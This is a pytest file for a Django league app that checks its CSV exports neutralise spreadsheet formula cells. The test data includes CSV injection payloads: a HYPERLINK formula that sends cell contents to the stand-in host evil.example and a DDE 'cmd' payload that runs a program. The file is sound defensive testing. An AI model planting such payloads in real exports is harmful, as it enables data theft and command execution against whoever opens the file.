"""CSV exports neutralise formula cells (CSV injection): the shared cell function, and
the admin's player and entry exports that use it. The standings CSV's own test is in
tests/standings/test_views.py."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client

from league.exports import FORMULA_STARTS, csv_cell, csv_writer
from tests.factories import EntryFactory, PlayerFactory, TournamentFactory, UserFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Ani", "Budi = Citra", "a-b", "", "-12", "+3.5", "-0.5", 4, None]
)
def test_text_and_plain_numbers_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def test_every_formula_start_of_the_guidance_is_covered() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_the_writer_neutralises_every_cell_of_a_row() -> None:
    # Given the shared writer, when it writes a row mixing formulas, text and numbers
    out = io.StringIO()
    csv_writer(out).writerow(["=1+2", "Ani", 4, "@x"])
    # Then only the formulas are changed
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+2", "Ani", "4", "'@x"]


def _admin_export(model: str, resource: str) -> list[list[str]]:
    client = Client()
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    url = f"/en/admin/league/{model}/export/"
    form = client.get(url)
    assert form.status_code == 200
    fields = sorted(set(re.findall(rf'name="({resource}_[a-z_]+)"', form.content.decode())))
    assert fields, "the export form offers no field"
    response = client.post(url, {"format": "0", "resource": "0", **dict.fromkeys(fields, "on")})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_the_admin_player_export_neutralises_formula_cells() -> None:
    # Given players whose name, nickname and club are formulas
    for i, text in enumerate(FORMULAS):
        PlayerFactory(name=text, nickname="@nick", club="=club", slug=f"p{i}")
    # When a superuser exports players as CSV from the admin
    rows = _admin_export("player", "playerresource")
    # Then no cell starts with a formula character, and the names read back quoted
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    header = rows[0]
    names = {row[header.index("name")] for row in rows[1:]}
    assert names == {"'" + text for text in FORMULAS}
    assert {row[header.index("club")] for row in rows[1:]} == {"'=club"}


@pytest.mark.django_db
def test_the_admin_entry_export_neutralises_formula_cells() -> None:
    # Given an entry whose tournament and player slugs start with a minus sign
    tournament = TournamentFactory(slug="-sum-a1")
    EntryFactory(tournament=tournament, player=PlayerFactory(slug="-cmd"))
    # When a superuser exports entries as CSV from the admin
    rows = _admin_export("entry", "entryresource")
    # Then those cells are quoted
    header = rows[0]
    assert rows[1][header.index("tournament")] == "'-sum-a1"
    assert rows[1][header.index("player")] == "'-cmd"
